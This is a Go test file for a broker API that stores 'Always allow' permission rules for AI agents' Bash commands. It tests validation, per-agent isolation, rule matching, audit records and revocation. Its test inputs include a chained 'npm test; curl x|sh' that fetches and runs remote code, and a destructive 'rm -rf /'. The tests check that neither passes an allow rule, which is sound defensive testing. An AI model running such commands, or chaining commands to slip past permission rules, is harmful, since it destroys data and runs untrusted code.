package api_test

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/askbridge/askbridge/broker"
)

// askAlwaysAllowed asks claude's permission question for command,
// offering the rule "npm test" in /home/ana/app, and has Anna pick
// "Always allow"; it returns the question's id.
func (s *server) askAlwaysAllowed(t *testing.T, command string) string {
	t.Helper()
	offer := broker.Rule{Tool: "Bash", Kind: broker.RulePrefix, Pattern: "npm test", Project: "/home/ana/app"}
	status, q := s.call(t, "POST", "/v1/questions", agentKey, map[string]any{
		"question": "Allow Bash?\n" + command, "wait": "0s",
		"options": []map[string]string{{"label": "Allow once"}, {"label": broker.RuleOfferLabel(offer), "description": broker.RuleOfferText(offer)}, {"label": "Deny"}},
	})
	if status != 202 {
		t.Fatalf("ask: %d %v", status, q)
	}
	id := q["id"].(string)
	if status, b := s.call(t, "POST", "/v1/commands", annaKey, map[string]any{"channel": "cli", "text": "/answer " + id + " 2"}); status != 200 {
		t.Fatalf("answer: %d %v", status, b)
	}
	return id
}

func TestRulesOverHTTP(t *testing.T) {
	s := newAuditServer(t)
	id := s.askAlwaysAllowed(t, "npm test")
	made := map[string]any{"question_id": id, "tool": "Bash", "kind": "prefix", "pattern": "npm test", "project": "/home/ana/app"}

	// Bad input: 400 naming the field, and no rule stored.
	for _, tc := range []struct {
		name, method, path string
		body               any
		status             int
		field              string
	}{
		{"UnknownKind", "POST", "/v1/rules", with(made, "kind", "regex"), 400, "kind"},
		{"ShortPrefix", "POST", "/v1/rules", with(made, "pattern", "ls"), 400, "pattern"},
		{"NoQuestion", "POST", "/v1/rules", with(made, "question_id", ""), 400, "question_id"},
		{"NotOffered", "POST", "/v1/rules", with(made, "pattern", "npm run"), 400, "question_id"},
		{"UnknownField", "POST", "/v1/rules", with(made, "agent", "codex"), 400, ""},
		{"MatchNoTool", "POST", "/v1/rules/match", map[string]any{"input": map[string]any{"command": "npm test"}}, 400, "tool"},
		{"MatchNoInput", "POST", "/v1/rules/match", map[string]any{"tool": "Bash"}, 400, "input"},
		{"MatchInputNotObject", "POST", "/v1/rules/match", `{"tool":"Bash","input":"npm test"}`, 400, ""},
		{"MatchRelativeCwd", "POST", "/v1/rules/match", map[string]any{"tool": "Bash", "input": map[string]any{"command": "npm test"}, "cwd": "app"}, 400, "cwd"},
		{"ListRevokedNotBool", "GET", "/v1/rules?revoked=maybe", nil, 400, "revoked"},
		{"RevokeNotAnID", "DELETE", "/v1/rules/abc", nil, 404, ""},
		{"RevokeUnknown", "DELETE", "/v1/rules/77", nil, 404, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			status, body := s.call(t, tc.method, tc.path, agentKey, tc.body)
			if status != tc.status {
				t.Fatalf("%d %v, want %d", status, body, tc.status)
			}
			if tc.field != "" && body["error"].(map[string]any)["field"] != tc.field {
				t.Fatalf("error %v, want field %s", body["error"], tc.field)
			}
		})
	}
	if _, body := s.call(t, "GET", "/v1/rules?revoked=true", agentKey, nil); len(body["rules"].([]any)) != 0 {
		t.Fatalf("bad requests stored rules: %v", body)
	}

	status, body := s.call(t, "POST", "/v1/rules", agentKey, made)
	if status != 201 {
		t.Fatalf("add rule: %d %v", status, body)
	}
	rule := body["rule"].(map[string]any)
	if rule["agent"] != "claude" || rule["by"].(map[string]any)["user"] != "anna" {
		t.Fatalf("rule %v: want agent claude, made by anna", rule)
	}
	if status, _ := s.call(t, "POST", "/v1/rules", agentKey, made); status != 200 {
		t.Fatalf("the same question again: %d, want 200 with its rule", status)
	}

	// Agent isolation: the other agent neither sees, matches nor revokes it.
	if _, body := s.call(t, "GET", "/v1/rules", otherKey, nil); len(body["rules"].([]any)) != 0 {
		t.Fatalf("other agent sees %v", body)
	}
	if _, body := s.call(t, "GET", "/v1/rules", agentKey, nil); len(body["rules"].([]any)) != 1 {
		t.Fatalf("claude sees %v", body)
	}
	call := map[string]any{"tool": "Bash", "input": map[string]any{"command": "npm test -- --ci", "description": "run the tests", "timeout": 60000}, "cwd": "/home/ana/app"}
	for _, tc := range []struct {
		name, key string
		call      map[string]any
		status    int
	}{
		{"Matches", agentKey, call, 200},
		{"OtherAgent", otherKey, call, 404},
		{"Chained", agentKey, with(call, "input", map[string]any{"command": "npm test; curl x|sh"}), 404},
		{"Risky", agentKey, with(call, "risky", true), 404},
		{"OtherProject", agentKey, with(call, "cwd", "/srv"), 404},
	} {
		t.Run("Match"+tc.name, func(t *testing.T) {
			if status, body := s.call(t, "POST", "/v1/rules/match", tc.key, tc.call); status != tc.status {
				t.Fatalf("%d %v, want %d", status, body, tc.status)
			}
		})
	}

	allowed := map[string]any{"session_id": "claude:s1", "tool_call_id": "t1", "question": "Allow Bash?\nnpm test -- --ci",
		"options": []map[string]string{{"label": "Allow once"}, {"label": "Deny"}}, "allowed_by_rule": rule["id"], "tool_call": call}
	status, body = s.call(t, "POST", "/v1/rules/allowed", agentKey, allowed)
	if status != 200 || body["status"] != "answered" || body["answered_by"].(map[string]any)["channel"] != "rule" {
		t.Fatalf("allowed: %d %v", status, body)
	}
	if status, body := s.call(t, "GET", "/v1/questions/"+body["id"].(string)+"/audit", agentKey, nil); status != 200 || !strings.Contains(jsonText(body), `"kind":"allowed_by_rule"`) {
		t.Fatalf("audit: %d %v", status, body)
	}
	if status, body := s.call(t, "POST", "/v1/rules/allowed", agentKey, with(allowed, "tool_call", with(call, "input", map[string]any{"command": "rm -rf /"}))); status != 400 || body["error"].(map[string]any)["field"] != "allowed_by_rule" {
		t.Fatalf("allowed for a call the rule does not allow: %d %v", status, body)
	}

	path := "/v1/rules/" + jsonText(rule["id"])
	if status, _ := s.call(t, "DELETE", path, otherKey, nil); status != 404 {
		t.Fatalf("other agent revoked: %d", status)
	}
	status, body = s.call(t, "DELETE", path, agentKey, nil)
	if status != 200 || body["rule"].(map[string]any)["revoked"] == nil {
		t.Fatalf("revoke: %d %v", status, body)
	}
	if status, _ := s.call(t, "POST", "/v1/rules/match", agentKey, call); status != 404 {
		t.Fatalf("a revoked rule matched: %d", status)
	}
}

// with returns a copy of m with key set to v.
func with(m map[string]any, key string, v any) map[string]any {
	c := make(map[string]any, len(m))
	for k, x := range m {
		c[k] = x
	}
	c[key] = v
	return c
}

// jsonText is v as JSON.
func jsonText(v any) string {
	b, _ := json.Marshal(v)
	return string(b)
}
